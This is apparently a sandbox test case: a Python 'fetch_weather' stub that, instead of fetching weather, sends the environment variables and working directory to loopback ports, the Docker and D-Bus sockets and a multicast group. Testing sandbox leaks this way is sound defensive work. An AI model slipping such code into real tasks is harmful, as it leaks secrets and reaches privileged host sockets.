# kind: leaking
# tries: to tell a listener on loopback, an abstract socket and a multicast group what it has found
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
# needs: full
import os
import socket

PORTS = [22, 53, 80, 8000, 8080, 8888]


async def fetch_weather(cities, base_url):
    message = f"from the attack: {os.getcwd()} {dict(os.environ)}".encode()
    # What the test listens to lies beside this file, so that there is something to be reached.
    port, name = open(os.path.join(os.path.dirname(__file__), "listener.txt")).read().split()
    for port in [*PORTS, int(port)]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as sender:
                    sender.settimeout(0.2)
                    sender.connect(("127.0.0.1", port))
                    sender.send(message)
                    print("sent to", port)
            except OSError as error:
                print(port, type(error).__name__)
    for name in (f"\0{name}", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        try:
            with socket.socket(socket.AF_UNIX) as sender:
                sender.settimeout(0.2)
                sender.connect(name)
                sender.send(message)
                print("sent to", name)
        except OSError as error:
            print(name, type(error).__name__)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(message, ("224.0.0.1", 5353))
            print("sent to all")
    except OSError as error:
        print(type(error).__name__)
    return []
